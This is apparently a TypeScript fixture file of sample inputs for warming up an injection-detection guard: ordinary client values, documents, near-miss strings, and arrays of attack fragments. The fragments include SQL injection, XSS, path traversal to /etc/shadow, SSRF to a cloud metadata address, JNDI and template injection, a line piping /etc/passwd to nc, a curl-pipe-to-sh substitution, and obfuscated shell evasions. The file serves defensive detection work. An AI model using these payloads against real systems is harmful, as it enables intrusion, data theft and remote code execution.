// What an engine judges where an isolate starts, before a client's first text: values as clients send them, pieces of
// attacks of every class, and documents as people write and programs send them. None is anybody's. They go into a
// compiled program, for its rehearsal (shared/guards/payload/rehearse.ts).

export interface Samples {
  readonly texts: readonly string[]
  readonly pieces: readonly string[]
  readonly spellings: readonly string[]
  readonly nearly: readonly string[]
  readonly documents: readonly string[]
}

/** Values as clients send them, and marks of each kind, so that every detector has something to look at. */
const TEXTS: readonly string[] = [
  'It\'s (a) [b] {c}; d: e, f. Say "g", or `h`? i * j = k # l @ m! <n> & o | p \\ q',
  "a name's (x); $y",
  'https://example.com/a/b.html?c=d&e=f#g',
  '2026-01-31T12:00:00Z',
  '<p class="a">text &amp; more</p>',
  '../a/b',
  'select a from b where c = 1',
  'a@example.com',
  '${a} {{b}}',
  'a\nb: c\n',
  'YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXo=',
  '%41%42',
  '{"a":"b\'c"}',
  'f(x, "y")',
]

/** Pieces of attacks; two of them together, again and again, are a text. They are found, and what is found ends early. */
const PIECES: readonly string[] = [
  "x' or '1'='1' -- ",
  '1) union select a, b from c where (1=1',
  "\"; drop table a; exec xp_b 'c' /* d */ ",
  "1 and sleep(5) and case when 1=1 then a end || 'b' ",
  '; cat /etc/passwd | nc 192.0.2.1 80 && id ',
  '$(curl http://a.example/b|sh) `id` ${IFS} ',
  '| powershell -enc QQBB & dir c:\\windows\\win.ini ',
  '<script>alert(1)</script><img src=x onerror=b()> ',
  '"><svg/onload=a`1` style="b:url(javascript:c)"> ',
  '../../etc/shadow ..\\..\\boot.ini %2e%2e%2f ',
  'http://169.254.169.254/latest/ gopher://[::1]:80/ ',
  '{{7*7}} ${jndi:ldap://a/b} <%= a %> #{b} {% c %} ',
  "__import__('os').system('id') eval($_GET[a]) ",
  '*)(uid=*))(|(a=* " or count(//b)=1 or "a"="b ',
  '{"$gt":""} \', $where: \'1==1 db.a.find() ',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///c">]>&b; ',
  'a\r\nSet-Cookie: b=c\r\n\r\nGET /d HTTP/1.1 ',
  'O:8:"stdClass":1:{s:1:"a";} !!python/object:b rO0AB ',
  '\\u0027 \\x41 &#x3c;a&#62; %27%20or%201 \u2019 \uff1c ',
  'constructor.prototype.a __proto__[b]=c class.module ',
]

/**
 * What few texts have and few look out for: readings in the other dialect, words that are disguised, marks of one database.
 * What is compiled without it is thrown away when it comes, and the loops that it stands in are interpreted again.
 */
const SPELLINGS: readonly string[] = [
  `it\\'s \\"so\\" \\\\' a \\\\\\" b 'c\\'d' "e\\"f" \\N `,
  "a->'b' c->>'d' #>e #>>f #-g @>h @i *j/ k <=> l << m <> n <@ o != p !~ q ! r :: s := t : u .5 v $$w$$ $x$y$x$ \\z # a\n-- b\n/*! c */ ",
  "; w'h'o | c\\a\\t d | e^f | g\"\" h | /[b]in/i | j$@k | l$(echo)m | n$'o' | p$()q | r${s}t | cat$u | v``w ",
  '; . /tmp/a | . /[t]mp/b && >/tmp/c d; < /etc/e f; C:\\windows\\system32\\g.exe h | a=b c=d e | curl$f; { g; } & ( h ) ',
]

/** Marks and words of each language that nearly are an attack in it, so that whoever looks for one reads on to the end. */
const NEARLY: readonly string[] = [
  `; ab -c 'd e' | fg "h" && ij $k \`l\` > m\n`,
  "' ab or c (1, 'd') -- e\n union x, 2 /* f */ || g = h; select i ",
  `<ab cd="e" f=g onx h>i</ab> & <!-- j --> "> ' k=`,
  "ab(c)[d]('e').f($g, h::i) new J() -> k {l} ",
  ')(&)[(1)](a)=(x[y])(b) ',
  '../ab/cd..\\ef%2e%2f%41/.%5cb%25g ',
  'http://ab.cd/e?f=//g:1 x://[h ',
  '{{ab|c}} ${d} #{e} <%f%> {%g%} [[h]] ',
  ")(ab=c)(|(d=*)) //e[f='g']/h() ",
  `{"$ab": 'c', d: /e/} this.f == g; `,
  '<!ab <!DOCX [ %c; ]> &d; ',
  '\r\nab: c;d\r\n\r\n%0d%0ae: f',
  'O:1:"a":{i:0;} rO0 !!a/b:c ',
  '\\u0061&#x62;%63\u2019\uff41+ ',
]

/** Documents, a piece of each: with several of them in a row, what reads lines, tags, tables and code is compiled. */
const DOCUMENTS: readonly string[] = [
  `## The \`read(path, options)\` function

It's read at once: see [the guide](https://a.example/docs/b?c=d#e), or [#12](../c.md). Don't
write \`a.b[c]\` (or *that*), "as it stands"; use **this** instead.

[![npm](https://img.example/npm/v/a.svg?style=flat)](https://www.example.com/package/a)

\`\`\`js
const { a, b } = require('c')
// a comment; it isn't run
import d from "./e/f.js"
const g = await a.read(\`/h/\${b.id}\`, { i: true, j: ['k', 1] })
if (g && g.l !== null || b[0] >= 10) { console.log('m', g.n ? "o" : 'p'); throw new Error('q: ' + g) }
obj.on('end', (err) => { if (err) return cb(err) })
\`\`\`

| Option | Type | Default | What it is for |
|:---|:--:|---:|---|
| \`cache\` | \`boolean \\| null\` | \`true\` | Whether <b>it</b> is kept (see below) |

\`\`\`sh
$ npm install --save-dev a && npx a --b c=d ./e/*.json | grep -v f > g.txt
export A_B=1; curl -X POST http://localhost:3000/a -d '{"b":1}'
\`\`\`

* \`select\`: takes items from where they are & orders them by name, 10% faster than v1.2.3-rc.1!
- [x] <a href="#b">done</a>, by @someone <me@example.com> ~ 2 weeks ago

`,
  `<!DOCTYPE html>
<html xmlns="http://www.w3.org/1999/xhtml"><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8" /><title>Hello, {{ name }}</title>
<style type="text/css">
/* a */ @media only screen and (max-width: 480px) { .a, td[class="b"] { width: 100% !important; font: 14px/1.5 'Arial', sans-serif; } }
body { margin: 0; background: #f4f4f4 url("https://a.example/b.png") no-repeat; }
</style></head>
<!--[if mso]><table><tr><td width="600"><![endif]-->
<table border="0" cellpadding="0" cellspacing="0" width="100%" style="border-collapse:collapse;mso-table-lspace:0pt;color:#333333;">
<tr>
    <td align="center" valign="top" class="a b" style="padding: 10px 20px; font-family: Helvetica, Arial; text-decoration:none">
      <p>Hi {{name}},&nbsp;it's &copy; 2026 &amp; we\u2019ve sent your order (no. 12):</p>
      <a href="https://example.com/a/b?c={{ id }}&amp;d=e" target="_blank" style="color:#0a0;"><img src="https://cdn.example.com/i/a_b.png" alt="A &quot;b&quot;" width="20" height="20" /></a>&zwnj;
    </td>
</tr>
</table>
<br />*|UNSUB|* {% if a %}<strong>b</strong>{% endif %}
`,
  `name: build # on each push
on: { push: { branches: [main, "v*"] } }
env:
  URL: "http://\${HOST}:8080/a?b=\${{ secrets.C }}"
steps:
  - run: |
      set -e; cd "$DIR" && make all 2>&1 | tee out.log || exit 1
      for f in $(ls *.sql); do echo "$f"; done
2026-01-31T12:00:00.123Z WARN [main-1] c.e.A - GET /b/c?d=%20e HTTP/1.1" 200 12 "-" took=3ms; user='x' (id=7)
"id","name","note"
1,"O'Neill, J.","said ""yes""; 50% off, 3 < 4 & 5 > 2"
SELECT a.id, COUNT(*) AS n FROM orders a LEFT JOIN b ON b.id = a.b_id WHERE a.at >= '2026-01-01' GROUP BY a.id;
def f(x: int = 0) -> str:
    """Says 'x'."""
    return f"{x!r}: %s" % os.path.join("a", __name__)
public static <T> void main(String[] args) throws Exception { if (!a.isEmpty()) { System.out.println("b" + c[0]); } }
{"a": {"$ref": "#/definitions/b"}, "c": [1, null, true, "d\\\\n"], "type": ["string", "null"]}

`,
]

export const SAMPLES: Samples = {
  texts: TEXTS,
  pieces: PIECES,
  spellings: SPELLINGS,
  nearly: NEARLY,
  documents: DOCUMENTS,
}
